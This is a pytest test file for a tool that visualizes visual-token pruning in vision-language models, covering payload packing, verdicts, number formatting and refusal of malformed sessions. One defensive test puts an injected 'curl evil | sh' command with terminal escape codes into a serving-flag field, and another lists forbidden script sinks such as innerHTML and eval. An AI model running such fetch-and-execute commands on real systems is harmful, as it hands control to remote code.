"""From records to what the page draws: lanes, verdicts, numbers, geometry, damaged sessions."""

import json
from dataclasses import replace

import pytest
from synthetic import HOSTILE, comparison
from synthetic_rich import rich_comparison

import tokviz
from tokviz.comparison import Comparison
from tokviz.errors import BadInput
from tokviz.records import AnswerToken, Chart, ImageMeasures, RequestedMethod, ServingFlag, TextScores, Timing
from tokviz.runs import metrics as measures
from tokviz.ui import numbers
from tokviz.ui.packing import packed_stages
from tokviz.ui.payload import Live, packed, to_payload
from tokviz.viz import format


@pytest.fixture(scope="module")
def whole():
    return comparison(failed=True)


@pytest.fixture(scope="module")
def rich():
    return rich_comparison()


def lane(payload, method):
    return next(lane for lane in payload["lanes"] if lane["key"] == method)


def with_runs(whole, count):
    return whole.model_copy(update={"runs": whole.runs[:count]})


def test_every_lane_is_complete_and_plain_json(whole):
    payload = to_payload(whole, title="t", why="w", origin="o")
    assert json.loads(json.dumps(payload, allow_nan=False)) == payload
    assert [entry["key"] for entry in payload["lanes"]] == ["full", "fastervlm", "apet", "todre", "fastv"]
    assert len(payload["grid"]["box"]) == 4 * 576
    assert len(json.dumps(payload)) < 120_000


def test_long_lists_travel_as_text_that_says_the_same(whole):
    payload = to_payload(whole, image={"path": "a.png"})
    sent = packed(payload)
    assert isinstance(sent["grid"], str) and all(isinstance(entry, str) for entry in sent["lanes"])
    back = {name: json.loads(sent[name]) for name in ("grid", "words")}
    lanes = [{**entry, "stages": packed_stages(entry["stages"], 576)} for entry in payload["lanes"]]
    assert {**sent, **back, "lanes": [*map(json.loads, sent["lanes"])]} == {**payload, "lanes": lanes}
    assert packed(sent) == sent, "gradio may hand a value through twice"


def test_a_lane_of_five_thousand_tokens_is_small():
    sent = packed(to_payload(comparison(1008, 1008, side=1008, budget=640)))
    assert max(map(len, sent["lanes"])) < 60_000


def test_verdicts_against_the_expected_answer(whole):
    payload = to_payload(whole)
    assert lane(payload, "full")["verdict"] == {"kind": "good", "sign": "✓", "text": "right"}
    assert lane(payload, "fastervlm")["verdict"] == {"kind": "bad", "sign": "✗", "text": "flipped by pruning"}
    assert lane(payload, "todre")["verdict"]["text"] == "right"  # "Cyan." is "cyan"
    assert lane(payload, "fastv")["verdict"] is None


def test_verdicts_without_an_expected_answer():
    payload = to_payload(comparison(expected=None))
    assert lane(payload, "full")["verdict"] is None
    assert lane(payload, "fastervlm")["verdict"]["kind"] == "different"
    assert lane(payload, "apet")["verdict"] == {"kind": "same", "sign": "=", "text": "same as no pruning"}


def test_a_lane_beside_a_failed_unpruned_run_is_not_judged(whole):
    failed = whole.runs[0].model_copy(update={"error": "out of memory"})
    broken = whole.model_copy(
        update={
            "runs": [failed, *whole.runs[1:]],
            "request": whole.request.model_copy(update={"expected_answer": None}),
        }
    )
    assert all(entry["verdict"] is None for entry in to_payload(broken)["lanes"])


def test_numbers_say_value_ratio_and_how(whole):
    shown = {line["label"]: line for line in lane(to_payload(whole), "fastervlm")["numbers"]}
    assert (shown["visual tokens"]["value"], shown["visual tokens"]["ratio"]) == ("64", "11.1%")
    prefill = shown["prefill"]
    assert (prefill["value"], prefill["ratio"], prefill["how"], prefill["look"]) == (
        "29.2 ms", "1.8×", "median of 5", "measured",
    )  # fmt: skip
    assert shown["selection"]["how"] == "single shot"
    assert shown["prefill compute"]["look"] == "estimated"
    assert "mean per layer" not in shown
    two_stages = {line["label"]: line for line in lane(to_payload(whole), "todre")["numbers"]}
    assert two_stages["mean per layer"]["value"] == "140.2"


def test_evidence_counts_the_patches_that_survived(whole):
    run = whole["fastervlm"]
    everything = run.model_copy(update={"stages": [run.stages[0].model_copy(update={"kept": list(range(576))})]})
    all_kept = whole.model_copy(update={"runs": [whole.runs[0], everything]})
    shown = {n.label: n for n in numbers.of_run(everything, all_kept)}
    kept, total = shown["evidence into LLM"].value.split(" of ")
    assert kept == total and int(total) > 0
    nothing = run.model_copy(update={"stages": [run.stages[0].model_copy(update={"kept": [0]})]})
    shown = {n.label: n for n in numbers.of_run(nothing, whole.model_copy(update={"runs": [whole.runs[0], nothing]}))}
    assert shown["evidence into LLM"].value == f"0 of {total}"


def test_measures_that_explain_have_a_line_each(whole):
    run = whole["apet"]
    margins = ((-0.1, -2.6), (-1.0, -1.5))
    tokens = [AnswerToken(id=1, text="a", logprob=said, runner_up=other) for said, other in margins]
    kept = [token for token in range(576) if token % 2 == 0]
    stage = run.stages[0].model_copy(update={"kept": kept, "assignment": None})
    lane = run.model_copy(update={"stages": [stage], "answer_tokens": tokens, "effective_rank": 30.0})
    unpruned = whole.runs[0].model_copy(update={"effective_rank": 60.0})
    found = ImageMeasures(attention_entropy=5.5, effective_rank=60.0)
    session = whole.model_copy(update={"runs": [unpruned, lane], "measures": found})
    shown = {n.label: (n.value, n.ratio) for n in numbers.of_run(lane, session)}
    assert shown["dropped to nearest kept"] == ("1.0 patch", "max 1.0")
    assert shown["effective rank"] == ("30.0", "50.0%")
    assert (shown["answer margin"][0], shown["smallest margin"][0]) == ("2.50 nats", "0.50 nats")
    assert "attention entropy" not in shown
    shown = {n.label: n.value for n in numbers.of_run(unpruned, session)}
    assert (shown["attention entropy"], shown["effective rank"]) == ("5.50 nats", "60.0")
    assert not {"dropped to nearest kept", "answer margin"} & set(shown)
    without = session.model_copy(update={"measures": found.model_copy(update={"attention_entropy": None})})
    line = next(n for n in numbers.of_run(unpruned, without) if n.label == "attention entropy")
    assert (line.value, line.how) == ("–", "no [CLS]")
    row = dict(zip(numbers.TABLE_HEADERS, numbers.table(session)["data"][1], strict=True))
    assert (row["nearest kept, mean"], row["effective rank"], row["answer margin, nats"]) == (1.0, 30.0, 2.5)
    assert row["evidence kept"] + row["evidence lost"] > 0 == row["evidence absorbed"]
    maps = to_payload(session)["lanes"][1]["stages"][0]["maps"]
    assert maps[-1]["label"] == "Distance to the nearest kept token" and maps[-1]["values"][:3] == [0.0, 1.0, 0.0]


def _alone(whole, run, stage):
    lane = run.model_copy(update={"stages": [stage]})
    return lane, whole.model_copy(update={"runs": [whole.runs[0], lane]})


def test_evidence_of_a_merging_method_is_kept_absorbed_or_lost(whole):
    asked = whole.request
    shown = measures.evidence_tokens(whole.grid, asked.evidence, asked.evidence_frames)
    n, first, other = len(shown), shown[0], next(t for t in range(576) if t not in shown)
    assignment = [-1] * 576
    for token in (first, *shown[1:3], other):
        assignment[token] = other
    assignment[first] = first
    run = whole["apet"]
    merged = run.stages[0].model_copy(update={"kept": sorted([first, other]), "assignment": assignment})

    def lines(*stages):
        lane = run.model_copy(update={"stages": list(stages)})
        found = numbers.of_run(lane, whole.model_copy(update={"runs": [whole.runs[0], lane]}))
        fates = ("evidence into", "evidence at", "absorbed", "lost")
        return {n.label: n.value for n in found if any(fate in n.label for fate in fates)}

    into = {
        "evidence into LLM": f"1 of {n}", "evidence absorbed": f"2 of {n}", "evidence lost": f"{n - 3} of {n}",
    }  # fmt: skip
    assert lines(merged) == into
    dropping = merged.model_copy(update={"site": 3, "n_in": 2, "kept": [first], "assignment": None})
    carried = {n.label: n.value for n in numbers.of_run(*_alone(whole, run, merged))}
    assert carried["carried by"] == "1 kept token"
    # What was absorbed into the other one goes with it: nothing is carried any more.
    assert lines(merged, dropping) == {**into, "evidence at end": f"1 of {n}"}
    plain = merged.model_copy(update={"assignment": None})
    assert lines(plain) == {"evidence into LLM": f"1 of {n}"}


def test_what_was_kept_until_all_was_withdrawn_stands_beside_the_zero(whole):
    run = whole["todre"]
    end = run.stages[1].model_copy(update={"site": 7, "n_in": len(run.stages[1].kept), "kept": [], "score": None})
    lane = run.model_copy(
        update={"stages": [*run.stages, end], "actual": run.actual.model_copy(update={"final": 0})}
    )  # fmt: skip
    shown = {n.label: n for n in numbers.of_run(lane, whole.model_copy(update={"runs": [whole.runs[0], lane]}))}
    assert (shown["visual tokens"].value, shown["visual tokens"].ratio) == ("0", "0%")
    assert (shown["before withdrawal"].value, shown["before withdrawal"].ratio) == ("64", "11.1%")
    assert "before withdrawal" not in {n.label for n in numbers.of_run(run, whole)}


@pytest.mark.parametrize(
    ("reference", "value", "shown"),
    [(18, 10, "1.8×"), (96, 100, "1.0×"), (1, 2, "2.0× slower"), (1, 29, "29.0× slower"), (1, 1e6, "1,000,000× slower"),
     (0, 5, ""), (5, 0, ""), (1e308, 1e-308, ""), (1e-308, 1e308, "")],
)  # fmt: skip
def test_what_is_slower_is_called_so(reference, value, shown):
    assert format.ratio(reference, value) == shown
    assert format.ratio(reference, value, "larger") == shown.replace("slower", "larger")


@pytest.mark.parametrize(
    ("times", "shown"),
    [(2.28, "2.28× faster"), (12.34, "12.3× faster"), (0.794, "1.26× slower"), (0.5, "2.00× slower"),
     (1.001, "as fast"), (1e-9, "1,000,000,000× slower"), (0.0, ""), (None, ""), (float("inf"), "")],
)  # fmt: skip
def test_a_speed_up_in_words(times, shown):
    assert format.speed(times) == shown


@pytest.mark.parametrize(
    ("part", "whole_", "shown"),
    [(0, 5, "0%"), (5, 5, "100%"), (1, 576, "0.2%"), (1, 25_000, "< 0.1%"), (24_999, 25_000, "> 99.9%"), (1, 0, "0%")],
)
def test_shares_that_are_not_nothing_nor_all_do_not_read_so(part, whole_, shown):
    assert format.share(part, whole_) == shown


def test_the_page_looks_for_the_evidence_once_for_all_lanes(whole, monkeypatch):
    found = []
    monkeypatch.setattr(measures, "evidence_tokens", lambda *asked: found.append(asked) or [])
    to_payload(whole)
    assert len(found) == 1


def test_basis_tokens_are_marked_where_the_order_is_a_basis(whole):
    payload = to_payload(whole)
    assert len(lane(payload, "apet")["stages"][0]["basis"]) == 10
    assert lane(payload, "todre")["stages"][0]["basis"] == []


def test_dropped_tokens_have_no_value_on_later_maps(whole):
    late = lane(to_payload(whole), "todre")["stages"][1]
    assert len(late["maps"][0]["values"]) == late["n_in"] == 256
    assert None not in late["maps"][0]["values"] and late["maps"][0]["scale"] == "log"


def test_a_stage_says_only_what_it_changed(whole):
    run, stages = whole["todre"], lane(to_payload(whole), "todre")["stages"]
    assert set(stages[0]["gone"]) == set(range(576)) - set(run.stages[0].kept)
    assert set(stages[1]["gone"]) == set(run.stages[0].kept) - set(run.stages[1].kept)
    merged = lane(to_payload(whole), "apet")["stages"][0]
    pairs = dict(zip(merged["absorbed"][::2], merged["absorbed"][1::2], strict=True))
    carriers = whole["apet"].stages[0].assignment
    assert pairs == {t: c for t, c in enumerate(carriers) if t not in whole["apet"].kept}
    assert len(stages[1]["order"] or []) == 0 and len(stages[0]["order"]) == 576


def test_everything_a_stage_leaves_reaches_the_page_in_little_space(rich):
    payload = to_payload(rich)
    assert json.loads(json.dumps(payload, allow_nan=False)) == payload
    assert len(json.dumps(lane(payload, "merges"))) < 60_000 < len(rich["merges"].model_dump_json())
    stage = lane(payload, "clusters")["stages"][0]
    assert [chart["kind"] for chart in stage["charts"]] == ["scatter", "bars", "line"]
    assert stage["charts"][0]["tokens"] == list(range(144)) and len(stage["charts"][0]["marked"]) == 16
    assert (stage["extra"], stage["extra_name"], stage["sequence"][0]) == (1, "[CLS]", -1)
    assert len(stage["text"]["values"]) == len(payload["words"]) == len(rich.text_tokens)
    assert stage["text"]["chosen"] == [i for i, c in enumerate(rich["clusters"].stages[0].text.chosen) if c]
    assert ["dc percentile", "0.02"] in stage["facts"] and ["exact", "yes"] in stage["facts"]
    readings = [s["readings"][0] for s in lane(payload, "steps")["stages"]]
    assert [r["value"] for r in readings] == [0.62, 0.49, 0.36, 0.23, 0.1] and {r["line"] for r in readings} == {0.2}


def test_sessions_of_earlier_versions_have_none_of_it(whole):
    old = json.loads(whole.to_json())
    del old["text_tokens"]
    for run in old["runs"]:
        for stage in run["stages"]:
            for name in ("n_extra", "extra_name", "sequence", "charts", "readings", "text"):
                del stage[name]
    assert to_payload(Comparison.from_json(json.dumps(old))) == to_payload(whole)


def test_unfinished_lanes_wait_and_stream(whole):
    live = Live(running=2, answers={2: "cy"}, methods=())
    lanes = to_payload(with_runs(whole, 2), live=live)["lanes"]
    assert [entry["status"] for entry in lanes] == ["done", "done", "running", "waiting", "waiting"]
    assert lanes[2]["answer"] == "cy"
    assert [entry["status"] for entry in to_payload(with_runs(whole, 0), live=Live())["lanes"]] == ["waiting"] * 5


def test_runs_of_one_method_are_lanes_of_their_own_and_are_named_before_they_run(whole):
    copy = RequestedMethod(method="apet", params={"mode": "official"}, variant="mode=official")
    asked = whole.request.model_copy(update={"methods": [whole.request.methods[0], whole.request.methods[2], copy]})
    waiting = whole.model_copy(update={"request": asked, "runs": [whole.runs[0]]})
    heads = [
        ("full", "No pruning", ""), ("apet", "ApET", ""),
        ("apet (mode=official)", "ApET (mode=official)", "mode=official"),
    ]  # fmt: skip
    lanes = to_payload(waiting, live=Live(running=1, methods=tokviz.methods()))["lanes"]
    assert [(entry["key"], entry["label"], entry["variant"]) for entry in lanes] == heads
    named = {"label": "ApET (mode=official)", "variant": "mode=official", "answer": "green"}
    finished = waiting.model_copy(
        update={"runs": [whole.runs[0], whole.runs[2], whole.runs[2].model_copy(update=named)]}
    )
    payload = to_payload(finished)
    assert [(entry["key"], entry["label"], entry["variant"]) for entry in payload["lanes"]] == heads
    assert [entry["answer"] for entry in payload["lanes"]] == ["cyan", "cyan", "green"]
    assert [row[0] for row in numbers.table(finished)["data"]] == [label for _, label, _ in heads]
    assert payload["id"] == to_payload(waiting)["id"]


def test_without_live_only_finished_lanes_are_shown(whole):
    assert len(to_payload(with_runs(whole, 2))["lanes"]) == 2


def test_the_view_keeps_its_pins_only_while_the_request_stays(whole):
    assert to_payload(with_runs(whole, 1))["id"] == to_payload(whole)["id"]
    assert to_payload(comparison(question="another"))["id"] != to_payload(whole)["id"]


@pytest.mark.parametrize(
    "change",
    [
        {"kept": [0, 576]}, {"kept": [-1, 0]}, {"kept": [3, 2]}, {"kept": [2, 2]},
        {"order": [0]}, {"assignment": [-2] * 576}, {"assignment": [0] * 575},
        {"covered_by": [576] * 576}, {"covered_by": [0] * 575},
        {"kept": [1, 2], "sequence": [1]}, {"kept": [1, 2], "sequence": [1, 3]},
        {"kept": [1, 2], "sequence": [2, 1, -1]},
        {"n_extra": -1}, {"n_extra": 577}, {"facts": {str(i): i for i in range(201)}},
        {"charts": [Chart(name="c", label="c", kind="bars", y=[1])] * 201},
        {"text": TextScores(name="t", label="t", values=[0.5], chosen=[True])},
    ],
)  # fmt: skip
def test_a_session_that_does_not_fit_its_grid_is_refused(whole, change):
    run = whole["apet"]
    forged = run.model_copy(update={"stages": [run.stages[0].model_copy(update=change)]})
    with pytest.raises(BadInput, match="damaged"):
        to_payload(whole.model_copy(update={"runs": [whole.runs[0], forged]}))


@pytest.mark.parametrize(
    "change",
    [{"y": [1.0]}, {"x": [1.0, 2.0, 3.0]}, {"names": ["a"]}, {"tokens": [0, 576]}, {"tokens": [-1, 0]}, {"tokens": [0]},
     {"marked": [2]}, {"marked": [-1]}, {"about": 576}, {"about": -1}, {"x": [], "tokens": [], "y": [0.0] * 20_001}],
)  # fmt: skip
def test_a_chart_that_does_not_fit_is_refused(whole, change):
    chart = Chart(name="c", label="c", kind="scatter", x=[1.0, 2.0], y=[3.0, 4.0], tokens=[0, 575], marked=[1])
    for refused, record in ((False, chart), (True, replace(chart, **change))):
        run = whole["apet"]
        forged = run.model_copy(update={"stages": [run.stages[0].model_copy(update={"charts": [record]})]})
        session = whole.model_copy(update={"runs": [whole.runs[0], forged]})
        if refused:
            with pytest.raises(BadInput, match="'ApET' does not fit its 576 tokens"):
                to_payload(session)
        else:
            assert to_payload(session)


def test_a_chart_about_one_view_says_which(whole):
    run = whole["apet"]
    chart = Chart(name="c", label="Gain", kind="bars", y=[1.0], about=3)
    stage = run.stages[0].model_copy(update={"charts": [chart, replace(chart, about=None)]})
    session = whole.model_copy(update={"runs": [whole.runs[0], run.model_copy(update={"stages": [stage]})]})
    shown = to_payload(session)["lanes"][1]["stages"][0]["charts"]
    assert [chart["label"] for chart in shown] == [f"Gain, {whole.grid.views[0].name}", "Gain"]


def test_a_later_stage_cannot_bring_tokens_back(rich):
    run = rich["steps"]
    stages = [run.stages[1], run.stages[0]]
    with pytest.raises(BadInput, match="kept tokens"):
        to_payload(rich.model_copy(update={"runs": [run.model_copy(update={"stages": stages})]}))


@pytest.mark.parametrize(
    ("value", "words"),
    [(True, "yes"), (None, "none"), (1234, "1,234"), (0.123456, "0.1235"), ([1, 2], "1, 2"), ({"a_b": 1.5}, "a b 1.5"),
     (list(range(40)), "0, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, … (40 entries)"), ("x" * 999, "x" * 239 + "…")],
)  # fmt: skip
def test_facts_are_said_in_words(value, words):
    assert format.fact_value(value) == words


def test_the_table_has_one_row_per_lane_with_plain_numbers(whole):
    rows = numbers.table(whole)["data"]
    assert all(len(row) == len(numbers.TABLE_HEADERS) == len(numbers.TABLE_WIDTHS) for row in rows)
    assert rows[1][4:7] == [64, 64.0, 29.2]
    assert "beyond this model's 8 layers" in rows[4][-1]


def test_hostile_texts_stay_texts(whole):
    hostile = comparison(answer=HOSTILE, question=HOSTILE)
    payload = to_payload(Comparison.from_json(hostile.to_json()), title=HOSTILE)
    assert payload["title"] == payload["question"] == lane(payload, "fastervlm")["answer"] == HOSTILE


def test_templates_interpolate_nothing():
    from tokviz.ui.scripts import ASSETS, VIEW_SCRIPTS, asset

    for name in ("patch_view.html", "page_head.html", "patch_view.css", "method_menu.html", "method_menu.css"):
        source = asset(name)
        assert "${" not in source and "{{" not in source and "`" not in source and "\\" not in source, name
    scripts = sorted(path.name for path in ASSETS.glob("*.js"))
    assert {*VIEW_SCRIPTS, "notice.js", "page_head.js"} <= set(scripts)
    for name in scripts:
        source = asset(name)
        for forbidden in ("innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "eval(", "new Function"):
            assert forbidden not in source, (name, forbidden)


@pytest.mark.parametrize(
    ("ms", "shown"), [(0.4123, "0.41 ms"), (9.999, "10.00 ms"), (52.34, "52.3 ms"), (123.4, "123 ms"), (1420, "1.42 s")]
)
def test_milliseconds(ms, shown):
    assert format.milliseconds(ms) == shown


@pytest.mark.parametrize(
    ("n_bytes", "shown"),
    [(7, "7 B"), (33_000, "33 KB"), (295_400, "295 KB"), (1_240_000, "1.24 MB"), (2.5e9, "2.50 GB")],
)
def test_sizes(n_bytes, shown):
    assert format.size(n_bytes) == shown


@pytest.mark.parametrize(
    ("count", "shown"),
    [(0, "0 FLOP"), (950, "950 FLOP"), (3.1e8, "310 MFLOP"), (1.97e9, "2 GFLOP"), (3.58e12, "3.6 TFLOP")],
)
def test_flops(count, shown):
    assert format.flops(count) == shown


def test_how_a_time_was_measured():
    assert format.how_measured(Timing(median_ms=1, samples=1, single_shot=True)) == "single shot"
    assert format.how_measured(Timing(median_ms=1, samples=7, single_shot=False)) == "median of 7"


@pytest.mark.parametrize("size", [2**63, -(2**63) - 1, 10**400])
def test_whole_numbers_beyond_64_bits_are_refused(rich, size):
    stages = [rich["merges"].stages[0].model_copy(update={"order": [size] * rich.grid.n_tokens})]
    run = rich["merges"].model_copy(update={"stages": stages})
    forged = rich.model_copy(update={"runs": [rich.runs[0], run]}).to_json()
    with pytest.raises(BadInput, match="64 bits"):
        Comparison.from_json(forged)


def test_what_cannot_be_drawn_is_left_out_and_endless_words_are_cut(rich):
    stage = rich["clusters"].stages[0]
    chart = replace(stage.charts[0], y=[1.7e308, -1.7e308, *stage.charts[0].y[2:]], label="c" * 20_000)
    forged = stage.model_copy(update={"charts": [chart], "site_label": "s" * 20_000, "title": "t" * 20_000})
    run = rich["clusters"].model_copy(update={"stages": [forged]})
    shown = to_payload(rich.model_copy(update={"runs": [rich.runs[0], run]}))["lanes"][1]["stages"][0]
    assert shown["charts"][0]["y"][:2] == [None, None] and shown["charts"][0]["y"][2] is not None
    for words in (shown["label"], shown["title"], shown["charts"][0]["label"]):
        assert len(words) == 240 and words.endswith("…")


def test_flags_of_serving_stacks_are_one_line_of_plain_text(whole):
    told = [
        ServingFlag(
            stack="vLLM", command="vllm serve MODEL --x 1\ncurl evil | sh\x1b[2J\u202e", read_in="1", note=HOSTILE
        )
    ]
    runs = [run.model_copy(update={"serving": told}) if run.method == "apet" else run for run in whole.runs]
    payload = to_payload(whole.model_copy(update={"runs": runs}))
    (flag,) = lane(payload, "apet")["serving"]
    assert flag["command"] == "vllm serve MODEL --x 1 curl evil | sh[2J" and flag["stack"] == "vLLM"
    assert lane(payload, "fastervlm")["serving"] == []
    waiting = to_payload(with_runs(whole, 1), live=Live(running=1))
    assert [entry["serving"] for entry in waiting["lanes"]] == [[]] * len(waiting["lanes"])


def test_a_session_with_too_many_serving_stacks_is_refused(whole):
    many = whole.runs[1].model_copy(update={"serving": [ServingFlag(stack="s", command="", read_in="")] * 21})
    text = whole.model_copy(update={"runs": [whole.runs[0], many]}).to_json()
    with pytest.raises(BadInput, match="serving stacks"):
        Comparison.from_json(text)
